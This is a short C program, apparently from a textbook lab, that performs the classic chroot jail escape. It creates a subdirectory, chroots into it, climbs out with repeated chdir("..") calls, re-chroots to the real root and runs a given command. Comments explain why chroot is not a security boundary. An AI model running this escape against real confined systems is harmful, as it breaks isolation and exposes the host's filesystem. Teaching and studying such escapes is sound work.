/*
 * jail-escape: the classic way out of a chroot jail, for chapter 1's lab.
 *
 *   jail-escape COMMAND [ARG...]   breaks out, then runs COMMAND from the host's real root
 *
 * chroot(2) changes the directory that "/" means; it does not move the current directory, and
 * ".." stops climbing only at the process's root. So: make a new root *below* the current
 * directory, and the current directory is now outside the root, where ".." climbs freely up to
 * the real "/". Any process with CAP_SYS_CHROOT can do this, which is why chroot is not a
 * security boundary. Build it statically, since the jail has no C library:
 *
 *   gcc -static -o jail-escape jail-escape.c
 */
#include <errno.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc < 2) {
        fprintf(stderr, "usage: jail-escape COMMAND [ARG...]\n");
        return 2;
    }
    // tag::escape[]
    if (mkdir("jail-escape.d", 0700) != 0 && errno != EEXIST) {
        perror("jail-escape: mkdir");
        return 1;
    }
    if (chroot("jail-escape.d") != 0) {   /* the root moves below us; "." stays where it was */
        perror("jail-escape: chroot");
        return 1;
    }
    rmdir("jail-escape.d");                /* still reachable: relative to ".", not to "/" */
    for (int i = 0; i < 1024; i++) {       /* climb: no root of ours lies on the way up */
        if (chdir("..") != 0) {
            perror("jail-escape: chdir");
            return 1;
        }
    }
    if (chroot(".") != 0) {                /* "." is now the real root: make it ours */
        perror("jail-escape: chroot");
        return 1;
    }
    // end::escape[]
    execvp(argv[1], argv + 1);
    fprintf(stderr, "jail-escape: cannot run %s: ", argv[1]);
    perror(NULL);
    return 127;
}
